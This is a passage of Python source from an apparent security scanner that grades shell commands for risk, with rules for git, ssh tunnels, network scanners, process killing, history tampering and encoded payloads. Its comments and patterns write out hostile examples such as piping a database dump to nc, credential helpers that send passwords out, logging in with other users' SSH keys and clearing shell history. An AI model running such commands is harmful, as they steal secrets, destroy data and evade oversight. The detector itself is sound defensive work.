    def _in_clone(self, path: str) -> bool:
        """A script inside a directory that `git clone` just fetched (running it is curl | sh)."""
        norm = posixpath.normpath(path)
        return any(norm.startswith(d.rstrip("/") + "/") for d in self.cloned)

    def _rule_git(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if "config" in args:
            self._rule_tls_off(name, args, node, flow)  # `git config --global http.sslVerify false`
        # global options first: -C DIR, --git-dir, --work-tree, -c key=value
        tree = ""
        while args and args[0].startswith("-"):
            option = args[0]
            if option in ("-C", "--git-dir", "--work-tree", "-c") and len(args) > 1:
                tree = args[1] if option != "-c" else tree
                args = args[2:]
                continue
            if option.startswith(("--work-tree=", "--git-dir=")):
                tree = option.split("=", 1)[1] if option.startswith("--work-tree=") or not tree else tree
            args = args[1:]
        tree = tree or self.vars.get("GIT_WORK_TREE", "")  # `GIT_WORK_TREE=$HOME git clean -ffdx`
        self._git_effects(args, tree, node)
        if tree and HOLE not in tree and args[:1] in (["checkout"], ["switch"], ["pull"], ["reset"]):
            self._checked_out.add(tree.rstrip("/"))  # `git -C /opt/src/plugin checkout v1.4`: a work tree updated
        if args[:1] == ["lfs"] and "pull" in args and self.cloned:
            pass  # the files come with the clone, already counted as someone else's
        if args[:1] == ["clone"]:
            operands = W.options(args[1:], _GIT_CLONE_VALUED)[1]
            if operands:
                url = operands[0]
                dest = operands[1] if len(operands) > 1 else posixpath.basename(url.rstrip("/")).removesuffix(".git")
                if dest and HOLE not in dest:
                    self.cloned.add(posixpath.normpath(dest))
            return
        if args[:1] == ["add"]:
            staged = [a for a in W.options(args[1:])[1] if paths.classify(a).secret and a not in self._encrypted]
            if staged:
                # committed, a secret leaves with the next push (and stays in the history)
                self._add(
                    "shell.secret-commit",
                    RiskLevel.HIGH,
                    Category.EXFILTRATION,
                    f"git add stages {staged[0]} (secret file) for commit",
                    node,
                )
            return
        if args[:2] == ["remote", "add"] and len(args) >= 4:
            self.added_remotes.add(args[2])
        if args[:1] == ["push"]:
            targets = [a for a in args[1:] if not a.startswith("-")]
            everything = any(a in ("--all", "--mirror") for a in args)
            elsewhere = bool(targets) and (targets[0] in self.added_remotes or "://" in targets[0])
            if everything and elsewhere:
                # the whole repository, every branch and its history, copied to a place this script chose
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"git push {' '.join(args[1:3])} copies every branch to a remote added just now",
                          node)  # fmt: skip
        if args[:1] == ["config"] and "safe.directory" in args and args[-1] == "*":
            # git then reads the config (hooks, fsmonitor, sshCommand) of repositories other users own
            self._add("shell.privilege", RiskLevel.HIGH, Category.PRIVILEGE,
                      "git trusts every repository on the machine (safe.directory '*')", node)  # fmt: skip
        helper = re.search(r"\bstore\s+--file[= ](\S+)", " ".join(args[1:])) if args[:1] == ["config"] else None
        if helper and any(a.lower() == "credential.helper" for a in args[1:4]):
            where = paths.classify(helper.group(1).strip("'\""))
            if where.kind is paths.PathKind.TEMP:
                # every account on the machine can read (or replace) the stored tokens there
                self._add("shell.secret-exposure", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"git stores credentials in plain text in a shared temporary directory ({where.path})",
                          node)  # fmt: skip
        if args[:2] == ["credential", "fill"] or (
            args[:1] == ["config"]
            and any(a.lower().startswith(("credential.", "http.extraheader")) for a in args[1:3])
            and any(a in ("--get", "--get-all", "-l", "--list") for a in args[1:])
        ):
            # git asks its credential helper for the stored password or token
            flow.secret = True
            self._add(
                "shell.secret-read",
                RiskLevel.HIGH,
                Category.EXFILTRATION,
                "git reads stored credentials (credential helper)",
                node,
            )
            return
        helper_key = any(
            a.lower() == "credential.helper" or (a.lower().startswith("credential.") and a.lower().endswith(".helper"))
            for a in args[1:]
        )
        if args[:1] == ["config"] and helper_key and args[-1].startswith("!"):
            # a helper starting with ! is a shell function git hands every username and password it handles
            found = self._nested(args[-1][1:], "shell", node, "git credential helper")
            if any(f.category in (Category.NETWORK, Category.EXFILTRATION) for f in found):
                self._add("shell.exfiltration", RiskLevel.CRITICAL, Category.EXFILTRATION,
                          "git's credential helper sends the usernames and passwords it is given over the network",
                          node)  # fmt: skip
            return
        alias_key = any(a.lower().startswith("alias.") for a in args[1:])
        if args[:1] == ["config"] and alias_key and args[-1].startswith("!"):
            # a git alias starting with ! is a shell command, run whenever the alias is used
            self._nested(args[-1][1:], "shell", node, "git alias")
            if "--global" in args or "--system" in args:
                self._add(
                    "shell.git-alias",
                    RiskLevel.MEDIUM,
                    Category.PERSISTENCE,
                    "a global git alias runs a shell command",
                    node,
                )
            return
        if args[:1] == ["config"] and any(
            a.lower() in ("core.hookspath", "core.fsmonitor", "core.sshcommand") for a in args[1:]
        ):
            # hooks elsewhere, or a command git runs by itself: code that runs on every git operation
            # `git config core.hooksPath .githooks` in a project is a common set-up; globally, or
            # pointing into the home or the system, it makes every repository run those hooks
            scope = "--global" in args or "--system" in args
            value = args[-1]
            outside = value.startswith(("/", "~")) or HOLE in value or ".." in value
            self._add(
                "shell.git-hooks",
                RiskLevel.HIGH if scope or outside else RiskLevel.MEDIUM,
                Category.PERSISTENCE,
                "git config points git at hooks or a command it runs on every operation",
                node,
            )
            return
        if args[:1] == ["push"] and any(a in ("-f", "--force", "--mirror") or a.startswith("+") for a in args[1:]):
            shared = any(
                a.split(":")[-1].lstrip("+").removeprefix("refs/heads/") in T.SHARED_BRANCHES
                or a.split(":")[-1].lstrip("+").removeprefix("refs/heads/").startswith(("release", "prod"))
                or a.split(":")[-1].lstrip("+").startswith("refs/tags/")  # a published release's tag moved
                or a in ("--all", "--tags", "--mirror")
                for a in args[1:]
            )
            # (one branch after another, as a loop over the remote's branches pushes them: every branch)
            shared = shared or bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
            if shared and scratch_remote(self._source.decode("utf-8", "replace")):
                shared = False  # the remote is a bare repository this script made a moment ago
            # `git clone --mirror UPSTREAM w && git -C w push --mirror git@host:mirrors/x.git`: a mirror kept in step
            mirroring = "--mirror" in args and (
                any("mirror" in a.lower() for a in args[1:] if a != "--mirror")
                or "clone --mirror" in self._source.decode("utf-8", "replace")
            )
            shared = shared and not mirroring
            self._add(
                "shell.history-rewrite",
                RiskLevel.HIGH if shared else RiskLevel.MEDIUM,
                Category.FILESYSTEM,
                "git push --force overwrites the remote history",
                node,
            )
        elif args[:2] == ["stash", "clear"]:
            self._add("shell.discard-changes", RiskLevel.HIGH, Category.FILESYSTEM,
                      "git stash clear throws away every stashed change", node)  # fmt: skip
        elif (args[:1] == ["reset"] and "--hard" in args) or (
            args[:1] == ["clean"] and any("f" in a for a in args[1:])
        ):
            self._add(
                "shell.discard-changes",
                RiskLevel.MEDIUM,
                Category.FILESYSTEM,
                f"git {args[0]} discards uncommitted work",
                node,
            )

    def _git_effects(self, args: list[str], tree: str, node: Any) -> None:
        """What git does beyond the project: clean/reset of another tree, remote deletions, lost reflogs,
        redirected fetches, self-calling aliases."""
        verb = args[0] if args else ""
        many = bool(self._loops) or self._mass or bool(self._stdin_listing)
        # `cd /var/www/shop && git clean -fdx`: the tree `cd` went to (its uploads are untracked files; a deploy's
        # `git reset --hard origin/main` there is routine)
        keeps = any(a in ("-e", "--exclude") or a.startswith("--exclude=") for a in args[1:])  # `-e .env`: kept
        # (`git clean -fd` without `-x` keeps what .gitignore names, where a deployed tree's uploads live)
        ignored_too = any(re.fullmatch(r"-\w*x\w*", a) for a in args[1:])
        if verb == "clean" and not tree and self._cwd and self._cwd.startswith("/") and not keeps and ignored_too:
            tree = self._cwd
        where = paths.classify(tree).kind if tree else paths.PathKind.WORKDIR
        # `git clean -fdX`: only the files .gitignore names (build outputs, caches), not untracked work
        ignored_only = verb == "clean" and any(re.fullmatch(r"-\w*X\w*", a) for a in args[1:]) and not any(
            re.fullmatch(r"-\w*x\w*", a) for a in args[1:]
        )
        inside = (paths.PathKind.WORKDIR, paths.PathKind.RELATIVE, paths.PathKind.TEMP, paths.PathKind.UNKNOWN)
        elsewhere = where not in inside or (many and where is not paths.PathKind.WORKDIR)
        if verb in ("clean", "reset") and elsewhere and not ignored_only and (
            "--hard" in args or any("f" in a for a in args[1:])
        ):
            self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"git {verb} on {tree.replace(HOLE, '…') or 'every repository'} deletes files outside "
                      "this project", node)  # fmt: skip
        if verb == "push" and any(a in ("--delete", "-d") or a.startswith(":") for a in args[1:]):
            deleted = [a for a in args[1:] if not a.startswith("-")][1:]
            # (one release candidate's or pre-release's tag, deleted to be made again, is not the published history)
            prerelease = len(deleted) == 1 and _PRERELEASE_TAG.search(deleted[0]) is not None and not many
            # (the branches `git branch -r --merged main` lists: their changes are on main already, a routine prune)
            merged = b"--merged" in self._source and _MERGED_BRANCHES.search(self._source) is not None
            if (many or len(deleted) > 3 or any(HOLE in d or "refs/tags" in d for d in deleted)) and not (
                prerelease or merged
            ):
                self._add("shell.history-rewrite", RiskLevel.HIGH, Category.FILESYSTEM,
                          "git push --delete removes branches or tags on the remote en masse", node)  # fmt: skip
        if verb == "update-ref" and "-d" in args and (many or self._repeated):
            self._add("shell.history-rewrite", RiskLevel.HIGH, Category.FILESYSTEM,
                      "git update-ref -d deletes every branch or tag a listing gives", node)  # fmt: skip
        if verb == "reflog" and "expire" in args and any("=now" in a or a == "--expire=all" for a in args):
            self._add("shell.history-rewrite", RiskLevel.HIGH if many or elsewhere else RiskLevel.MEDIUM,
                      Category.FILESYSTEM,
                      "git reflog expire drops the record that lets lost commits be recovered", node)  # fmt: skip
        if verb in ("filter-branch", "filter-repo"):
            self._add("shell.history-rewrite", RiskLevel.MEDIUM, Category.FILESYSTEM,
                      f"git {verb} rewrites every commit of the history", node)  # fmt: skip
        rewrite = next((i for i, a in enumerate(args) if a.lower().startswith("url.")
                        and a.lower().endswith(("insteadof", "pushinsteadof"))), None)  # fmt: skip
        if verb == "config" and rewrite is not None:
            # `url."git@github.com:".insteadOf https://github.com/`: the same host over SSH, with the user's key
            target = args[rewrite][4:].rsplit(".", 1)[0]
            same = rewrite + 1 < len(args) and _url_host(target) is not None and (
                _url_host(target) == _url_host(args[rewrite + 1])
            )
            if same:
                self._add("shell.persistence", RiskLevel.MEDIUM, Category.PERSISTENCE,
                          "git config rewrites a host's URLs to another protocol (every clone and pull)",
                          node)  # fmt: skip
            else:
                self._add("shell.persistence", RiskLevel.HIGH, Category.PERSISTENCE,
                          "git config redirects fetches from one host to another (every clone and pull)",
                          node)  # fmt: skip
        alias = next((a.split(".", 1)[1] for a in args if a.lower().startswith("alias.")), None)
        if (
            verb == "config"
            and alias
            and args[-1].startswith("!")
            and re.search(rf"\bgit\s+{re.escape(alias)}\b", args[-1])
        ):
            self._add("shell.fork-bomb", RiskLevel.CRITICAL, Category.RESOURCE,
                      f"git alias {alias} calls itself (every call spawns more)", node)  # fmt: skip

    def _rule_tunnel(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if name == "tsh":
            if args[:1] != ["ssh"]:
                return
            name, args = "ssh", args[1:]  # Teleport's `tsh ssh root@host CMD`: ssh through its proxy
        flow.network = True
        for command in _ssh_local_commands(args):
            # ProxyCommand and LocalCommand run here, in a shell, before anything reaches the host
            self._nested(command, "shell", node, f"{name} ProxyCommand/LocalCommand")
        identities = W.option_values(args, "-i") + [a[2:] for a in args if a.startswith("-i") and len(a) > 2]
        if any(i.startswith("/home/*/") or i.startswith("/home/" + HOLE) for i in identities):
            # `for key in /home/*/.ssh/id_*; do ssh -i "$key" …`: every user's private key tried as a login
            self._add("shell.credential-reuse", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"{name} logs in with other users' private keys (every home's .ssh)", node)  # fmt: skip
        if name == "ssh":
            # `ssh host CMD...`: CMD runs in a shell on that host, and what it does there counts
            _, operands = W.options(args, T.SSH_VALUED)
            if len(operands) > 1:
                # (everything after the host is the command, its own options included: `ssh h wipefs -n /dev/sdf`)
                remote = " ".join(args[args.index(operands[0]) + 1 :])
                self.nested_output = None
                found = self._nested(remote, "shell", node, "ssh remote command")
                if self.nested_output is not None:
                    # `ssh db 'pg_dumpall' | nc …`: what the remote command prints is what ssh prints here
                    flow.secret |= self.nested_output.secret
                    flow.dump |= self.nested_output.dump
                # (a router's or a firewall's CLI takes `;`-separated commands the same way)
                device = device_commands_risk(remote.replace(";", "\n"))
                if device is not None:
                    self._add("shell.device", device.level, device.category, f"{name} {device.what}", node)
                # every host a list gives, or a production one: its users lose the service
                fleet = (
                    bool(self._loops) or self._mass or bool(self._stdin_listing) or self._repeated
                    or production_target(operands[0])
                    or "=" in operands[0].rsplit("@", 1)[-1]  # (`tsh ssh root@role=db`: every node the labels pick)
                )  # fmt: skip
                if fleet and any(
                    f.level >= RiskLevel.MEDIUM
                    and (f.rule_id == "shell.kill" or (f.rule_id == "shell.service" and _STOPS.search(f.message)))
                    for f in found
                ):
                    # `while read ip; do ssh root@"$ip" "pkill -9 -f pos-client; systemctl mask …"`: every host
                    self._add("shell.kill", RiskLevel.HIGH, Category.PROCESS,
                              "ssh stops services or kills processes on a production host or every host a list gives",
                              node)  # fmt: skip
        if name == "cloudflared" and not (
            "--url" in args or "run" in args or "--hello-world" in args or args[:1] in (["access"], ["proxy-dns"])
        ):
            return  # `cloudflared --version`, `tunnel list`, `tunnel info`: nothing is served
        if name in ("ssh", "autossh"):
            reverse = any(
                a.startswith("-R") or (a.startswith("-") and not a.startswith("--") and "R" in a) for a in args
            )
            # `-D 0.0.0.0:1080`, `-L *:5432:db:5432`, `-o GatewayPorts=yes`: the forward is open to every address
            binds = [*W.option_values(args, "-D", "-L"), *(a[2:] for a in args if a.startswith(("-D", "-L")) and a[2:])]
            everyone = any(b.startswith(("0.0.0.0:", "*:", "[::]:", ":")) for b in binds) or any(
                o.lower().replace(" ", "") in ("gatewayports=yes", "gatewayports=clientspecified")
                for o in W.option_values(args, "-o")
            )
            if reverse or any(a.startswith("-D") for a in args) or everyone:
                self._add(
                    "shell.tunnel",
                    RiskLevel.HIGH if reverse or everyone else RiskLevel.MEDIUM,
                    Category.NETWORK,
                    f"{name} opens a reverse, dynamic (SOCKS) or local tunnel"
                    + (" to every address" if everyone else ""),
                    node,
                )
            return
        # behind a password or an identity provider, a tunnel shares a dev app; open, it publishes it to anyone
        guarded = any(
            a.startswith(("--basic-auth", "--oauth", "--auth", "--oidc", "--traffic-policy")) and not a.startswith(
                "--authtoken"  # (the tunnel account's own login, not a guard on the tunnel)
            )
            for a in args
        )
        served = [paths.classify(a[7:] or "/") for a in args if a.startswith("file://")]
        if any(info.kind not in (paths.PathKind.RELATIVE, paths.PathKind.TEMP) for info in served):
            guarded = False  # (`ngrok http file://$HOME/OneDrive`: the user's own files, a password or not)
            self._add("shell.exposure", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} publishes {paths.describe(served[0])} as files on the internet", node)  # fmt: skip
        self._add(
            "shell.tunnel",
            RiskLevel.MEDIUM if guarded else RiskLevel.HIGH,
            Category.NETWORK,
            f"{name} exposes a local service to the internet" + (" (behind authentication)" if guarded else ""),
            node,
        )

    def _rule_scanner(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if args and all(a in T.ATTACK_TOOL_INFO for a in args):
            return  # `nmap --script-updatedb`, `masscan --version`: the tool about itself
        # (what a scanner prints is the addresses and ports it found, not text a remote host chose: a loop over
        # them that probes each, `bash -c "echo > /dev/tcp/$ip/9100"`, runs none of their code; the scan itself is
        # graded below)
        operands = [a for a in W.options(args, T.SCANNER_VALUED)[1] if not a[:1].isdigit() or "." in a]
        operands += W.option_values(args, "-u", "--url", "-h", "--host", "-t", "--target")
        hosts = [t.split("://", 1)[-1].split("/", 1)[0].rsplit(":", 1)[0] if "://" in t else t for t in operands]
        hosts = [
            h
            for h in hosts
            if h
            and not h.startswith("-")
            and ("." in h or h in ("localhost", "::1"))
            and ("/" not in h or re.fullmatch(r"[\d.]+/\d+", h))  # a host, a URL's host or a CIDR, not a file
            and not re.search(r"\.(?:txt|html?|xml|json|csv|log|gnmap|nmap|out)$", h)
        ]
        local = bool(hosts) and all(h in ("localhost", "::1") or h.startswith("127.") for h in hosts)
        # one host on a private network (a lab VM, the team's staging box) vs a sweep or the internet
        private = bool(hosts) and len(hosts) <= 2 and all(
            private_address(h) or _INTERNAL_NAME.search(h) or _STAGING_NAME.search(h) for h in hosts
        )
        # `nmap -sn 10.20.30.0/24`, `nmap -sn 10.20.0.100-112`: which addresses of one private /24 answer a ping
        # (no port probed)
        # (or which of them have a few ports open, `nmap -p 502 --open 10.20.0.0/24 | awk …`: an inventory of
        # the site's own devices, printed; no version, script or OS probe, no hurried timing, and not the targets
        # of what the script does next, `for ip in $(nmap -p9100 …)`)
        ports = W.option_values(args, "-p")
        inventory = (
            len(ports) == 1
            and re.fullmatch(r"\d+(?:,\d+){0,3}", ports[0]) is not None  # (up to four named ports: print ones)
            and not any(a in ("-A", "-sV", "-O", "-sC", "-T4", "-T5") or a.startswith("--script") for a in args)
            and _SCAN_FEEDS_COMMANDS.search(self._source.decode("utf-8", "replace")) is None
        )
        discovery = name == "nmap" and ("-sn" in args or "-sP" in args or inventory) and bool(hosts) and all(
            re.fullmatch(r"[\d.]+(?:/(?:2[4-9]|3[0-2])|-\d{1,3})", h)
            and private_address(re.split(r"[/-]", h)[0]) for h in hosts
        )
        private = private or discovery
        level = RiskLevel.LOW if local else RiskLevel.MEDIUM if private else RiskLevel.HIGH
        self._add(
            "shell.network-scan",
            level,
            Category.NETWORK,
            f"{name} scans " + ("this machine's own ports" if local else "one host of a private or staging network"
                                if private else "or attacks network hosts"),
            node,
        )

    def _rule_kill(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if name in ("killall5",):
            self._add("shell.kill", RiskLevel.CRITICAL, Category.PRIVILEGE, "killall5 signals every process", node)
            return
        if name == "kill":
            operands = [
                a for a in args if not (a.startswith("-") and not a.lstrip("-").isdigit()) and a not in ("-s", "-n")
            ]
            if "-1" in operands or "1" in operands:
                self._add(
                    "shell.kill",
                    RiskLevel.CRITICAL,
                    Category.PRIVILEGE,
                    "kills every process (pid -1) or init (pid 1)",
                    node,
                )
            elif flow.pids_of is not None and flow.pids_of.startswith(_USER_PIDS):
                # `ps -u prdadm -o pid= | xargs kill -9` is `pkill -u prdadm`
                self._kill_by_name("kill $(ps -u)", {"u"}, [flow.pids_of[len(_USER_PIDS) :]], node)
            elif flow.pids_of is not None:
                # kill $(pgrep PATTERN) is pkill PATTERN
                self._kill_by_name("kill $(pgrep)", set(), [flow.pids_of], node)
            elif any(not o.isdigit() for o in operands):
                # `for p in /proc/[0-9]*; do kill "${p#/proc/}"; done` kills what the loop visits
                visited = next(
                    (loop.pids for loop in reversed(self._loops) if loop.pids is not None), self.inherited_pids
                )
                if visited is not None:
                    self._kill_by_name("kill in a loop over processes", set(), [visited], node)
            return
        # `killall -HUP mDNSResponder`: a signal's name, not the flags H, U (user) and P
        flags, operands = W.options([a for a in args if not _SIGNAL_OPTION.fullmatch(a)])
        self._kill_by_name(name, flags, operands, node)

    def _kill_by_name(self, name: str, flags: set[str], operands: list[str], node: Any) -> None:
        match_all = any(o in (".", ".*", "", "^", "$") for o in operands)
        by_user = "u" in flags or "U" in flags or "--user" in flags
        raw = self._text(node) if node is not None else ""
        if by_user and len(operands) >= 2 and not match_all and any(u in raw for u in ("$USER", "${USER}", "$(id -u")):
            # `pkill -u "$USER" -f 'celery -A proj worker'`: one's own processes that match a pattern
            operands = operands[1:]
            by_user = False
        if by_user or match_all:
            everyone = "root" in operands or not operands or match_all
            self._add(
                "shell.kill",
                RiskLevel.CRITICAL if everyone else RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} kills every process of a user (or every process)",
                node,
            )
            return
        operands = [re.sub(r"\[(\w)\]", r"\1", o) for o in operands]  # `[p]ostgres` (grep's self-exclusion trick)
        targets = " ".join(operands).lower()
        critical = (*T.SECURITY_SERVICES, "systemd", "init", "dbus", "cron", "docker", "containerd", "kubelet")
        if any(_names_process(targets, s) for s in critical):
            self._add(
                "shell.kill",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} kills system or security services: {targets[:60]}",
                node,
            )
            return
        if any(s in targets for s in T.DATA_SERVER_PROCESSES) and _SIGKILL.search(raw):
            self._add("shell.kill", RiskLevel.HIGH, Category.PROCESS,
                      f"{name} kills a database server with SIGKILL (writes in flight are lost, every client drops)",
                      node)  # fmt: skip
            return
        if any(s in targets for s in T.VIRTUAL_MACHINE_PROCESSES) and _SIGKILL.search(raw):
            self._add("shell.kill", RiskLevel.HIGH, Category.PROCESS,
                      f"{name} pulls the plug on the host's virtual machines (their guests lose unsaved data)",
                      node)  # fmt: skip
            return
        unset = [m[1] for o in operands if (m := re.fullmatch(r"[\"']?\$\{?(\w+)\}?[\"']?", o.strip()))]
        if any(o.strip() == HOLE for o in operands) or any(v not in self.vars for v in unset):
            self._add(
                "shell.kill",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} kills whatever an unknown pattern matches (an empty one matches every process)",
                node,
            )
            return
        # `pkill -f 'java|python|node'`: an alternation of runtimes is every program written in them
        names = {n.strip("^$()\\b .*").lower() for o in operands for n in o.split("|")}
        if names & T.GENERIC_PROCESS_NAMES:
            self._add(
                "shell.kill",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} kills every {targets[:30]} process, whoever runs it",
                node,
            )
            return
        if T.WATCHERS.search(targets) and re.search(r"-(?:SIG)?STOP\b|-19\b|-(?:SIG)?KILL\b|-9\b", raw):
            # recorders, monitors, alarms or safety daemons frozen or killed outright: nothing watches or records
            self._add("shell.kill", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"{name} freezes or kills monitoring, recording or safety processes: {targets[:60]}",
                      node)  # fmt: skip
            return
        forever = any(loop.endless for loop in self._loops)  # killed again whenever it restarts: kept down
        self._add(
            "shell.kill",
            RiskLevel.HIGH if forever else RiskLevel.MEDIUM,
            Category.PRIVILEGE,
            f"{name} kills processes by name: {' '.join(operands)[:60]}"
            + (", again and again in an endless loop (kept down)" if forever else ""),
            node,
        )

    def _rule_disk_listing(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``lsblk -dpno NAME``, ``blkid -o device``: what they print are the machine's disks (full paths)."""
        if name == "blkid" or any(a == "--paths" or (a.startswith("-") and not a.startswith("--") and "p" in a)
                                  for a in args):
            flow.text = "/dev/" + HOLE

    def _rule_pgrep(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        _, operands = W.options(args, valued=_PGREP_VALUED)
        users = W.option_values(args, "-u", "-U", "--euid", "--uid")
        flow.pids_of = operands[0] if operands else _USER_PIDS + users[0] if users else ""

    def _rule_port_owner(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """`lsof -t -i:5432`: the pids of whatever holds a port; a database's port means the database."""
        ports = [pair for a in args for pair in re.findall(r":(\d+)\b|^(\d+)/(?:tcp|udp)$", a)]
        services = [T.SERVICE_PORTS[p] for pair in ports for p in pair if p in T.SERVICE_PORTS]
        if services and ("-t" in args or name == "fuser"):
            flow.pids_of = services[0]
        letters = "".join(a[1:] for a in args if a.startswith("-") and not a.startswith("--"))
        if name == "fuser" and ("k" in letters or "--kill" in args):
            # `fuser -km /home`: every process with a file open on the mount, whoever's it is
            mounts = [o for o in W.options(args)[1] if "/" in o and paths.classify(o).kind in _WHOLE_MOUNTS]
            if services or mounts:
                what = services[0] if services else f"every process using {mounts[0]}"
                self._add("shell.kill", RiskLevel.HIGH, Category.PROCESS, f"fuser -k kills {what}", node)
            else:
                self._add("shell.kill", RiskLevel.MEDIUM, Category.PROCESS, "fuser -k kills what holds a file or port",
                          node)  # fmt: skip

    def _rule_ps(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``ps -e``/``ps ax`` lists every process; its pids fed to kill kill everything."""
        selecting = {"-u", "-U", "-p", "-g", "-G", "-t", "-s", "-q", "--pid", "--user", "--ppid", "--sid", "-C"}
        if any(a.lstrip("-").endswith("ww") for a in args):
            flow.secret = True  # whole command lines of every process: passwords and tokens given as arguments
        everyone = False
        for i, arg in enumerate(args):
            if arg in selecting or arg.startswith(("--pid=", "--user=", "--ppid=")):
                if arg == "-C" and i + 1 < len(args):
                    flow.pids_of = args[i + 1]
                if arg in ("-u", "-U", "--user") and i + 1 < len(args) and "$" not in args[i + 1]:
                    flow.pids_of = _USER_PIDS + args[i + 1]  # every process of that user
                return
            if arg.startswith("-") and not arg.startswith("--"):
                letters = arg[1:].split("=")[0]
                # -e/-A select everything; stop at an option that takes the rest of the word (-o pid=)
                for ch in letters:
                    if ch in "eA":
                        everyone = True
                    if ch in "oOup":
                        break
            elif arg in ("--everyone", "--all") or (
                not arg.startswith("-") and {"a", "x"} <= set(arg) and arg.isalpha()
            ):
                everyone = True
        if everyone:
            flow.pids_of = ""

    def _rule_load_test(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``pgbench -c 800 -T 7200 -h prod-db``: hundreds of sessions hammering a production database."""
        clients = [int(c) for c in W.option_values(args, "-c", "--client", "--concurrency") if c.isdigit()]
        clients += [int(a.split("=", 1)[1]) for a in args if a.startswith("--client=") and a[9:].isdigit()]
        hosts = " ".join(W.option_values(args, "-h", "--host") + [a for a in args if "://" in a])
        many = max(clients, default=0)
        if many >= 500 or (many >= 100 and (production_target(hosts) or production_target(" ".join(args)))):
            self._add("shell.flood", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} runs {many} database sessions at once" + (" against production" if many < 500 else ""),
                      node)  # fmt: skip

    def _rule_binlog_reader(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``mysqlbinlog -v binlog.0*``: every change the server recorded, rows and statements (passwords set with
        `IDENTIFIED BY` included) on standard output."""
        flow.dump = True

    def _rule_journal(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``journalctl --vacuum-time=1s``: the system journal emptied (routine vacuuming keeps days or more)."""
        for arg in args:
            option, _, value = arg.partition("=")
            emptied = (
                (option == "--vacuum-time" and (kept := _duration_seconds(value)) is not None and kept < 3600)
                or (option == "--vacuum-size" and re.fullmatch(r"\d+[KB]?", value, re.IGNORECASE) is not None)
                or (option == "--vacuum-files" and value in ("0", "1"))
            )
            if emptied:
                self._add("shell.history-tamper", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"{name} {arg} empties the system journal (the machine's logs)", node)  # fmt: skip

    def _rule_history(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if name == "history" and any(a in ("-c", "-w", "-d", "-r") or a.startswith("-c") for a in args):
            self._add(
                "shell.history-tamper",
                RiskLevel.HIGH,
                Category.PERSISTENCE,
                "clears or rewrites the shell history",
                node,
            )
        elif name == "set" and "+o" in args and "history" in args:
            after = self._source[node.end_byte :] if node is not None else b""
            if re.search(rb"\bset\s+-o\s+history\b", after):
                # paused while a secret is typed, then switched back on
                self._add("shell.history-tamper", RiskLevel.LOW, Category.PERSISTENCE,
                          "pauses shell history (switched back on later)", node)  # fmt: skip
            else:
                self._add("shell.history-tamper", RiskLevel.HIGH, Category.PERSISTENCE, "turns shell history off", node)
        elif name == "set" and not args:
            flow.env = True
        elif name == "set" and "--" in args:
            # `set -- /etc /home`: POSIX sh's only list, the positional parameters (`for t; do`, "$@")
            words = args[args.index("--") + 1 :]
            self.vars.update({str(i): w for i, w in enumerate(words[:9], start=1)})
            self.vars["@"] = self.vars["*"] = " ".join(words)

    def _rule_env_dump(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if not args or (name == "printenv" and not [a for a in args if not a.startswith("-")]):
            flow.env = True

    def _rule_ls(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        _, operands = W.options(args)
        # (`cd /srv/profiles && ls | xargs rm -rf`: the entries of the directory `cd` went to)
        here = self._cwd if self._cwd and self._cwd.startswith("/") and HOLE not in self._cwd else "."
        flow.listing = operands[0] if operands else here

    def _rule_echo(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        words = list(args)
        escapes = name == "printf"
        if name == "echo":
            while words and words[0] in ("-n", "-e", "-ne", "-en", "-E"):
                escapes = escapes or "e" in words[0][1:]
                words = words[1:]
            text = " ".join(words)
        elif words:
            text = _printf(words[0], words[1:]) if "%" in words[0] else " ".join(words)
        else:
            text = ""
        if escapes and "\\" in text:
            # printf '\x72\x6d' and echo -e spell their output in escapes: decode, and note the obfuscation
            try:
                with warnings.catch_warnings():
                    warnings.simplefilter("ignore", DeprecationWarning)  # `\&` in an HL7 header is no escape
                    decoded = codecs.decode(text, "unicode_escape")
            except (UnicodeDecodeError, ValueError):
                decoded = text
            if any(e in text for e in ("\\x", "\\0", "\\u")) and decoded != text:
                flow.decode = True
            text = decoded
        flow.text = text

    def _rule_decoder(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        flags, operands = W.options(args)
        transform: str | None = None
        if name in ("base64", "base32") and ({"d", "D", "--decode"} & flags):
            transform = "b64" if name == "base64" else "b32"
        elif name == "b64decode" and ({"r", "p"} & flags):
            transform = "b64"  # `b64decode -r`: raw base64 in, the decoded bytes out (FreeBSD, OpenBSD)
        elif name == "xxd" and "r" in flags:
            transform = "hex"
        elif name == "openssl" and ("-d" in args or ("base64" in args and "-d" in args)):
            transform = "b64" if "base64" in args or "-base64" in args or "-a" in args else "opaque"
        elif name == "rev":
            transform = "rev"
        elif name == "uudecode" or name in ("gunzip", "zcat") or (name in ("gzip", "bzip2", "xz") and "d" in flags):
            transform = "opaque"
        elif (
            name == "tr"
            and len(operands) == 2
            and sorted(operands[0]) != sorted(operands[1])
            and len(W.tr_set(operands[0])) >= 8
        ):
            transform = "tr:" + operands[0] + "\0" + operands[1]  # rot13 and friends
        if transform is not None:
            flow.transform = transform
            flow.decode = True
